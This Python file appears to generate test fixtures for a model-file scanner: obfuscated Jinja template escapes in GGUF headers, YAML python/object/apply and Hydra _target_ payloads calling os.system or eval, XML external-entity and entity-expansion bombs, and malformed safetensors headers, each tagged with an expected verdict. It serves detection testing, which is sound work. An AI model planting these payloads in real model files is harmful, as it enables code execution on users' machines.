"""Templates, settings and headers, in spellings that few look for."""

import base64
import gzip
import io
import struct
import tarfile
from collections.abc import Iterator
from functools import partial

from hostile_artifacts.case import FORMAT, Build, Case, Least
from hostile_artifacts.opcodes import URL, payload

Named = dict[str, tuple[str, Build]]


def _gguf(*templates: str, key: str = "tokenizer.chat_template") -> bytes:
    """Version 3; several templates as a list of texts (type 9 of type 8)."""
    texts = b"".join(struct.pack("<Q", len(one.encode())) + one.encode() for one in templates)
    kind = struct.pack("<I", 8)
    if len(templates) > 1:
        kind = struct.pack("<IIQ", 9, 8, len(templates))
    front = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(key)) + key.encode()
    return front + kind + texts


def _templates() -> Named:
    """Ways out of a template that do not spell what they reach for."""
    ways = {
        "by-a-filter": "{{ x|attr('__globals__') }}",
        "by-an-item": "{{ x['__globals__'] }}",
        "in-hexadecimal": "{{ x['\\x5f\\x5fglobals\\x5f\\x5f'] }}",
        "in-two-halves": "{{ x['__glo' ~ 'bals__'] }}",
        "by-joining": "{{ x[['__glo', 'bals__']|join] }}",
        "in-a-loop": "{% for c in x.__class__.__mro__ %}{{ c }}{% endfor %}",
        "by-a-default": "{{ lipsum.__globals__['os'].popen('true') }}",
        "behind-a-variable": "{% set k = '__init__' %}{{ x[k] }}",
        "in-a-condition": "{% if cycler.__init__.__globals__ %}a{% endif %}",
    }
    found: Named = {
        f"gguf-template-{name}": ("gguf-template", partial(_gguf, text))
        for name, text in ways.items()
    }
    return found | {
        "gguf-template-of-another-name": (
            "gguf-template",
            lambda: _gguf("{{ x.__init__ }}", key="tokenizer.chat_template.rag"),
        ),
    }


def _texts() -> dict[str, tuple[str, str, Build]]:
    """Settings, in other spellings of YAML and XML."""
    apply = "!!python/object/apply:os.system ['true']"
    handle = "%TAG ! tag:yaml.org,2002:python/\n---\nx: !object/apply:os.system ['true']\n"
    grown = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    return {
        "yaml-tag-behind-a-handle": ("yaml-tag", ".yaml", handle.encode),
        "yaml-tag-in-the-second-document": ("yaml-tag", ".yaml", f"a: 1\n---\nb: {apply}\n".encode),
        "yaml-tag-in-a-flow": ("yaml-tag", ".yaml", f"{{a: [1, {apply}]}}\n".encode),
        "yaml-tag-for-a-key": ("yaml-tag", ".yaml", f"? {apply}\n: 1\n".encode),
        "yaml-tag-of-a-module": ("yaml-tag", ".yaml", b"x: !!python/module:antigravity\n".strip),
        "yaml-tag-with-an-anchor": ("yaml-tag", ".yaml", f"x: &a {apply}\ny: *a\n".encode),
        "yaml-tag-in-utf-16": ("yaml-tag", ".yaml", lambda: f"x: {apply}\n".encode("utf-16")),
        "yaml-tag-in-escapes": (
            "yaml-tag",
            ".yaml",
            b"x: !<tag:yaml.org,2002:python/object/apply:os%2Esystem> ['true']\n".strip,
        ),
        "yaml-object-of-a-process": (
            "yaml-tag",
            ".yaml",
            b"x: !!python/object/apply:subprocess.Popen\n  args: [[true]]\n".strip,
        ),
        "hydra-target-in-quotes": (
            "hydra-target",
            ".yaml",
            b"model: {\"_target_\": 'os.system', command: true}\n".strip,
        ),
        "hydra-target-in-a-list": (
            "hydra-target",
            ".yaml",
            b"steps:\n- _target_: builtins.eval\n  _args_: ['0']\n".strip,
        ),
        "nemo-target-compressed": (
            "hydra-target",
            ".nemo",
            lambda: _nemo("model:\n  _target_: os.system\n"),
        ),
        "pmml-parameter-entity": (
            "pmml-entity",
            ".pmml",
            f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % x SYSTEM "{URL}"> %x;]><p/>'.encode,
        ),
        "pmml-public-entity": (
            "pmml-entity",
            ".pmml",
            f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x PUBLIC "a" "{URL}">]><p>&x;</p>'.encode,
        ),
        "pmml-entity-in-utf-16": (
            "pmml-entity",
            ".pmml",
            lambda: (
                '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///x">]><p>&x;</p>'
            ).encode("utf-16"),
        ),
        "pmml-entities-that-grow": (
            "pmml-entity",
            ".pmml",
            f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e0 "ha">{grown}]><p>&e9;</p>'.encode,
        ),
    }


def _nemo(settings: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        about = tarfile.TarInfo("model_config.yaml")
        about.size = len(settings)
        archive.addfile(about, io.BytesIO(settings.encode()))
    return gzip.compress(buffer.getvalue(), mtime=0)


def _headers() -> dict[str, tuple[str, str, Build]]:
    """Headers of tensors and trees that no writer writes."""
    tensor = '"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}'
    text = base64.b64encode(payload()).decode()

    def tensors(header: str, data: bytes = b"\7") -> bytes:
        raw = header.encode()
        return struct.pack("<Q", len(raw)) + raw + data

    wide = '{"w":{"dtype":"F64","shape":[4294967296,4294967296],"data_offsets":[0,8]}}'
    return {
        "safetensors-key-twice": (
            "safetensors-header",
            ".safetensors",
            lambda: tensors(f"{{{tensor},{tensor}}}"),
        ),
        "safetensors-shape-that-overflows": (
            "safetensors-header",
            ".safetensors",
            lambda: tensors(wide, bytes(8)),
        ),
        "safetensors-code-with-line-ends": (
            "safetensors-metadata",
            ".safetensors",
            lambda: tensors(f'{{"__metadata__":{{"a":"{text[:20]}\\n{text[20:]}"}},{tensor}}}'),
        ),
    }


_LEAST: dict[str, Least] = {
    "pmml-entities-that-grow": "suspicious",
    "yaml-tag-behind-a-handle": "suspicious",
    "yaml-tag-of-a-module": "suspicious",
    "yaml-tag-in-utf-16": "inconclusive",
    "safetensors-key-twice": "inconclusive",
    "safetensors-shape-that-overflows": "inconclusive",
    "safetensors-code-with-line-ends": "suspicious",
}
"""The others name what is called; these read, import or grow, or their own library refuses them."""


def cases() -> Iterator[Case]:
    """Every text."""
    for name, (weakness, build) in _templates().items():
        yield _case(name, weakness, ".gguf", build)
    for name, (weakness, ending, build) in {**_texts(), **_headers()}.items():
        yield _case(name, weakness, ending, build)


def _case(name: str, weakness: str, ending: str, build: Build) -> Case:
    return Case(
        name=name,
        family=FORMAT,
        weakness=weakness,
        ending=ending,
        content=build,
        least=_LEAST.get(name, "malicious"),
    )
